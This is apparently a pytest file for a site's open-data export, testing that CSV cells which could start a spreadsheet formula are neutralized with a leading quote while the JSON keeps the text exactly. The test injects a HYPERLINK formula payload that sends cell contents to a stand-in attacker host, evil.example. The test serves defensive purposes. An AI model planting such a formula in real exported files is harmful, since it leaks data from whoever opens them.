"""No text in the records becomes a formula in a spreadsheet: a CSV cell that starts with
=, +, -, @, a tab or a carriage return is written after a single quote (as OWASP
recommends), in every CSV file the site publishes; the JSON files keep the text exactly."""
from __future__ import annotations

import csv
import datetime as dt
import io
import json
from dataclasses import replace
from types import MappingProxyType

import pytest

from vigil.build.pipeline import PROJECT, Folders, load
from vigil.features.opendata import FORMULA_START, cell, open_data_files
from vigil.model.records import Charge, Text

AS_OF = dt.date(2026, 11, 30)


@pytest.fixture(scope="module")
def content():
    loaded, problems = load(Folders(PROJECT))
    assert loaded is not None and not [p for p in problems if not p.warning]
    return loaded


def poisoned(content, text: str):
    """The sample with `text` in every kind of field the CSV files take from the records:
    a prisoner's name and article charged, a member's name and country."""
    first = content.prisoners[0]
    prisoner = replace(first, name=Text(MappingProxyType({"en": text, "ru": text})),
                       charges=(Charge(text),))
    member = replace(content.members[0], name=Text(MappingProxyType({"en": text})),
                     countries=(text,))
    return replace(content, prisoners=(prisoner, *content.prisoners[1:]),
                   members=(member, *content.members[1:]))


@pytest.mark.parametrize("start", FORMULA_START, ids=repr)
def test_no_csv_cell_starts_a_formula_and_the_json_keeps_the_text(content, start):
    text = start + 'HYPERLINK("https://evil.example/?x="&A1,"click")'
    files = {f.path: f.body for f in open_data_files(poisoned(content, text), AS_OF)}
    tables = {path: list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
              for path, body in files.items() if path.endswith(".csv")}
    assert set(tables) == {"data/prisoners.csv", "data/members.csv"}      # every CSV file
    for path, rows in tables.items():
        cells = [value for row in rows for value in row]
        assert "'" + text in cells, path                 # each file has the poisoned text...
        assert not [value for value in cells if value.startswith(FORMULA_START)], path
    for path in ("data/prisoners.json", "data/members.json"):
        assert text in strings(json.loads(files[path])), path                     # ...as written


def strings(value) -> set[str]:
    """Every text in a JSON document."""
    if isinstance(value, str):
        return {value}
    if isinstance(value, dict):
        return set().union(*map(strings, value.values()))
    if isinstance(value, list):
        return set().union(*map(strings, value))
    return set()


def test_other_cells_are_left_as_written():
    for text in ("Aleksei", "282.2", "2026-11-30", "'quoted", " -", "a=b", ""):
        assert cell(text) == text
    assert cell("-5") == "'-5"
    assert cell("\r=1") == "'\r=1"


def test_the_sample_csv_files_are_unchanged_by_the_neutralizing(content):
    """The sample's own data starts no cell with those characters."""
    for data in open_data_files(content, AS_OF):
        if data.path.endswith(".csv"):
            rows = csv.reader(io.StringIO(data.body.decode("utf-8-sig"), newline=""))
            assert not [v for row in rows for v in row if v.startswith("'")]
